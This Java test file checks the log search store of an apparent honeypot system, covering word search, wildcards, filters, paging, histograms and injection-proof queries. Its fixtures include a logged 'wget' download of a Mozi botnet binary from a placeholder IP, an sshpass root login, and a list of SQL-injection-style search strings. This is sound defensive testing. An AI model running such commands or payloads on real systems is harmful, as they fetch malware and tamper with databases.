package org.decnet.store;

import static org.assertj.core.api.Assertions.assertThat;

import java.sql.Connection;
import java.sql.SQLException;
import java.sql.Statement;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.UUID;
import org.decnet.engine.port.LogPage;
import org.decnet.engine.port.LogPlace;
import org.decnet.engine.port.LogQuery;
import org.decnet.engine.port.LogStore;
import org.decnet.model.event.Event;
import org.decnet.model.event.EventKind;
import org.decnet.model.event.Field;
import org.decnet.testkit.Scene;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.Test;

/** Events are found by their words and times, in pages, whatever is searched for. */
abstract class LogStoreContract extends StoreContract {
  private static final Scene ONE = Scene.ssh("web-1", "s1", "198.51.100.7");
  private static final Scene TWO = new Scene("mail-2", "s2", "203.0.113.9", "telnet");

  LogStoreContract(Engine engine) {
    super(engine);
  }

  private static Event said(Scene scene, double second, String message) {
    return scene
        .event(EventKind.CONNECTION, second)
        .set(Field.ACTION, "open")
        .set(Field.EVENT_CLASS, "scan")
        .set(Field.MESSAGE, message)
        .build();
  }

  private static Event typed(Scene scene, double second, String line) {
    return scene
        .event(EventKind.COMMAND, second)
        .set(Field.COMMAND_TEXT, line)
        .set(Field.MESSAGE, "CMD: " + line)
        .set(Field.EVENT_CLASS, "interaction")
        .build();
  }

  private void writeAndIndex(Event... events) {
    write(events);
    indexAll(stores.logs());
  }

  static void indexAll(LogStore logs) {
    int steps = 0;
    while (logs.index() > 0) {
      assertThat(++steps).isLessThan(1_000);
    }
  }

  private List<UUID> found(LogQuery query) {
    return ids(stores.logs().logs(query, null, 100, 0).events());
  }

  private List<UUID> found(String search) {
    return found(LogQuery.of(search));
  }

  private static List<UUID> ids(List<Event> events) {
    return events.stream().map(Event::id).toList();
  }

  private static LogQuery where(
      @Nullable String search,
      @Nullable String service,
      @Nullable String decky,
      @Nullable String eventClass,
      @Nullable UUID attacker) {
    return new LogQuery(search, null, null, service, decky, eventClass, attacker);
  }

  @Test
  void allWordsMustOccurInAnyOrder() {
    Event fetch = typed(ONE, 1, "cd /tmp && wget http://203.0.113.80/bins/Mozi.arm7");
    Event other = said(ONE, 2, "wget was not found");
    writeAndIndex(fetch, other);

    assertThat(found("wget")).containsExactly(other.id(), fetch.id());
    assertThat(found("WGET bins")).containsExactly(fetch.id());
    assertThat(found("bins wget")).containsExactly(fetch.id());
    assertThat(found("wget nothing")).isEmpty();
    assertThat(found("get")).as("part of a word").isEmpty();
  }

  @Test
  void joinedWordsAreFoundAsOneAndByTheirParts() {
    Event fetch = typed(ONE, 1, "wget http://203.0.113.80/bins/Mozi.arm7");
    writeAndIndex(fetch, said(TWO, 2, "80 of 203 in 113 tries, 0 errors"));

    assertThat(found("203.0.113.80")).containsExactly(fetch.id());
    assertThat(found("http://203.0.113.80/bins")).containsExactly(fetch.id());
    assertThat(found("mozi.arm7")).containsExactly(fetch.id());
    assertThat(found("arm7")).containsExactly(fetch.id());
    assertThat(found("mozi.arm")).isEmpty();
  }

  @Test
  void aStarStandsForAnyEnd() {
    Event fetch = typed(ONE, 1, "wget http://203.0.113.80/bins/Mozi.arm7");
    writeAndIndex(fetch);

    assertThat(found("moz*")).containsExactly(fetch.id());
    assertThat(found("203.0.113.*")).containsExactly(fetch.id());
    assertThat(found("ozi*")).isEmpty();
    assertThat(found("*")).isEmpty();
  }

  @Test
  void shortFrequentAndForeignWordsAreWordsToo() {
    Event short1 = said(ONE, 1, "rm is a tool of the trade");
    Event foreign =
        said(
            ONE,
            2,
            "\u00dcber \u0440\u0443\u0441\u0441\u043a\u0438\u0439 \u6f22\u5b57 \ud83d\ude00");
    writeAndIndex(short1, foreign);

    for (String word : List.of("rm", "a", "the", "of", "is")) {
      assertThat(found(word)).as(word).containsExactly(short1.id());
    }
    for (String word :
        List.of(
            "\u00fcber",
            "\u0440\u0443\u0441\u0441\u043a\u0438\u0439",
            "\u6f22\u5b57",
            "\u6f22*",
            "\ud83d\ude00")) {
      assertThat(found(word)).as(word).containsExactly(foreign.id());
    }
    assertThat(found("uber")).isEmpty();
  }

  @Test
  void filtersAloneAndWithWords() {
    Event one = typed(ONE, 1, "uname -a");
    Event two = said(TWO, 2, "uname");
    writeAndIndex(one, two);

    assertThat(found(where(null, "ssh", null, null, null))).containsExactly(one.id());
    assertThat(found(where(null, null, "mail-2", null, null))).containsExactly(two.id());
    assertThat(found(where(null, null, null, "scan", null))).containsExactly(two.id());
    assertThat(found(where(null, null, null, null, ONE.attacker()))).containsExactly(one.id());
    assertThat(found(where("uname", "ssh", null, "interaction", null))).containsExactly(one.id());
    assertThat(found(where("uname", null, null, null, TWO.attacker()))).containsExactly(two.id());
    assertThat(found(where("uname", "ssh", "mail-2", null, null))).isEmpty();
    assertThat(found(where(null, "web-1", null, null, null))).as("a decoy is no service").isEmpty();
    assertThat(found("interaction")).as("a class is no word").isEmpty();
  }

  @Test
  void timesBoundListsWithAndWithoutWords() {
    List<Event> events = new ArrayList<>();
    for (int i = 0; i < 10; i++) {
      events.add(said(ONE, i, "tick"));
    }
    writeAndIndex(events.toArray(Event[]::new));

    for (String search : new @Nullable String[] {null, "tick"}) {
      LogQuery query =
          new LogQuery(search, Scene.second(3), Scene.second(6), null, null, null, null);
      assertThat(found(query))
          .containsExactly(events.get(5).id(), events.get(4).id(), events.get(3).id());
    }
  }

  @Test
  void pagesFollowEachOtherWhateverIsWrittenMeanwhile() {
    List<Event> events = new ArrayList<>();
    for (int i = 0; i < 25; i++) {
      int second = i / 5; // five in each
      events.add(said(ONE, second, "tick " + i));
    }
    for (int i = 0; i < events.size(); i++) {
      events.set(i, events.get(i).toBuilder().id(new UUID(7, i * 31L)).build());
    }
    writeAndIndex(events.toArray(Event[]::new));

    for (LogQuery query : List.of(LogQuery.ALL, LogQuery.of("tick"))) {
      List<UUID> seen = new ArrayList<>();
      LogPage page = stores.logs().logs(query, null, 4, 0);
      assertThat(page.total()).isEqualTo(25);
      int written = 0;
      while (true) {
        seen.addAll(ids(page.events()));
        LogPlace next = page.next();
        if (next == null) {
          break;
        }
        writeAndIndex(said(TWO, 1000 + written++, "tick of another"));
        assertThat(LogPlace.of(next.text())).contains(next);
        assertThat(next.isOf(query)).isTrue();
        page = stores.logs().logs(query, next, 4, 0);
      }
      assertThat(seen).hasSize(25).doesNotHaveDuplicates();
      assertThat(seen.subList(0, 5))
          .containsExactlyInAnyOrderElementsOf(ids(events.subList(20, 25)));
      eraseOthers();
    }
  }

  private void eraseOthers() {
    try (Connection connection = connect(folder);
        Statement statement = connection.createStatement()) {
      statement.executeUpdate("delete from event where decky = 'mail-2'");
    } catch (SQLException e) {
      throw new IllegalStateException(e);
    }
  }

  @Test
  void offsetsWorkToo() {
    writeAndIndex(said(ONE, 1, "a tick"), said(ONE, 2, "a tick"), said(ONE, 3, "a tick"));

    for (LogQuery query : List.of(LogQuery.ALL, LogQuery.of("tick"))) {
      LogPage page = stores.logs().logs(query, null, 1, 2);
      assertThat(page.events()).extracting(Event::time).containsExactly(Scene.second(1));
      assertThat(page.next()).isNull();
      assertThat(stores.logs().logs(query, null, 1, Integer.MAX_VALUE).events()).isEmpty();
    }
  }

  @Test
  void moreEventsInAMicrosecondThanItHasNumbersAreAllFound() {
    List<Event> events = new ArrayList<>();
    for (int i = 0; i < 5_000; i++) {
      events.add(said(ONE, 7, "burst").toBuilder().id(new UUID(9, i * 2L)).build());
    }
    writeAndIndex(events.toArray(Event[]::new));
    writeAndIndex(said(ONE, 8, "burst"));

    LogPage page = stores.logs().logs(LogQuery.of("burst"), null, 1_000, 0);
    assertThat(page.total()).isEqualTo(5_001);
    assertThat(page.events().getFirst().time()).isEqualTo(Scene.second(8));
    assertThat(
            stores
                .logs()
                .histogram(
                    LogQuery.of("burst"), Scene.second(0), Scene.second(60), Duration.ofSeconds(1)))
        .isEqualTo(Map.of(Scene.second(7), 5_000L, Scene.second(8), 1L));
  }

  @Test
  void timesBeforeAndBehindAllNumbersAreFoundToo() {
    Event old =
        said(ONE, 1, "tick").toBuilder().time(Instant.parse("1901-01-01T00:00:00Z")).build();
    Event late =
        said(ONE, 2, "tick").toBuilder().time(Instant.parse("9999-01-01T00:00:00Z")).build();
    writeAndIndex(old, late, said(ONE, 3, "tick"));

    assertThat(found("tick")).hasSize(3).startsWith(late.id()).endsWith(old.id());
  }

  @Test
  void secretsInCommandLinesAreNoWords() {
    Event login = typed(ONE, 1, "sshpass -p s3cr3tword ssh root@10.0.0.1");
    writeAndIndex(login);

    assertThat(found("sshpass")).containsExactly(login.id());
    assertThat(found("s3cr3tword")).isEmpty();
    assertThat(found("s3cr*")).isEmpty();
  }

  @Test
  void whatIsDeletedIsFoundNoMore() throws SQLException {
    Event event = said(ONE, 1, "tick");
    writeAndIndex(event, said(ONE, 2, "tick"));
    write(said(ONE, 3, "tick"));
    try (Connection connection = connect(folder);
        Statement statement = connection.createStatement()) {
      statement.executeUpdate("delete from event where event_id <> '" + event.id() + "'");
    }
    indexAll(stores.logs());

    LogPage page = stores.logs().logs(LogQuery.of("tick"), null, 10, 0);
    assertThat(ids(page.events())).containsExactly(event.id());
    assertThat(page.total()).isEqualTo(1);
  }

  @Test
  void whatTwoProcessesIndexIsThereOnce() throws SQLException {
    Event event = said(ONE, 1, "tick");
    writeAndIndex(event);
    try (Connection connection = connect(folder);
        Statement statement = connection.createStatement()) {
      statement.executeUpdate("insert into search_pending (events) values ('" + event.id() + "')");
    }
    indexAll(stores.logs());

    assertThat(stores.logs().logs(LogQuery.of("tick"), null, 10, 0).total()).isEqualTo(1);
  }

  @Test
  void histogramCountsByMultiplesOfTheInterval() {
    writeAndIndex(said(ONE, 1, "tick"), said(ONE, 59, "tick"), said(ONE, 61, "tock"));

    for (LogQuery query : List.of(LogQuery.ALL, where(null, "ssh", null, null, null))) {
      assertThat(
              stores.logs().histogram(query, Scene.START, Scene.second(600), Duration.ofMinutes(1)))
          .isEqualTo(Map.of(Scene.START, 2L, Scene.second(60), 1L));
    }
    assertThat(
            stores
                .logs()
                .histogram(
                    LogQuery.of("tock"), Scene.START, Scene.second(61), Duration.ofMinutes(1)))
        .as("the end is left out")
        .isEmpty();
  }

  private static List<String> hostile() {
    return List.of(
        "\"",
        "'",
        "''; drop table event; --",
        "AND",
        "OR NOT NEAR",
        "NEAR(a b, 3)",
        "a AND",
        "(((",
        "^a",
        "words:tick",
        "{words}: tick",
        "-tick",
        "+tick -tock",
        "~tick",
        "<tick",
        ">tick",
        "@4",
        "tick & ! tock",
        "tick:*",
        "tick:A",
        "!tick",
        "a|b",
        "<->",
        "\\",
        "%",
        "_",
        "\u0000",
        "tick\u0000tock",
        "\ud800",
        "\ud83d\ude00".repeat(256),
        "*".repeat(512),
        "a ".repeat(256),
        "a.".repeat(256),
        "z".repeat(512),
        "a*b*c*",
        "\u202etick",
        "\r\n\t ",
        "");
  }

  @Test
  void noTextMeansAnythingToTheDatabase() {
    Event quiet = said(ONE, 0, "nothing of it");
    List<Event> events = new ArrayList<>(List.of(quiet));
    for (String text : hostile()) {
      events.add(said(ONE, events.size(), text + " tick tock"));
    }
    writeAndIndex(events.toArray(Event[]::new));

    for (String text : hostile()) {
      assertThat(found(text)).as(text).doesNotContain(quiet.id());
      stores.logs().histogram(LogQuery.of(text), Scene.START, Scene.second(9), Duration.ofHours(1));
    }
    assertThat(found("tock")).hasSize(hostile().size());
  }

  @Test
  void eventsOfASessionAreThoseOfTheKindsAskedFor() {
    write(said(ONE, 1, "tick"), typed(ONE, 2, "id"), typed(ONE, 3, "w"), typed(TWO, 4, "id"));

    assertThat(stores.logs().ofSession(ONE.session(), Set.of(EventKind.COMMAND), 10))
        .extracting(event -> event.text(Field.COMMAND_TEXT))
        .containsExactly("id", "w");
    assertThat(stores.logs().ofSession(ONE.session(), Set.of(EventKind.COMMAND), 1)).hasSize(1);
    assertThat(stores.logs().ofSession(ONE.session(), Set.of(EventKind.FILE), 1)).isEmpty();
  }
}
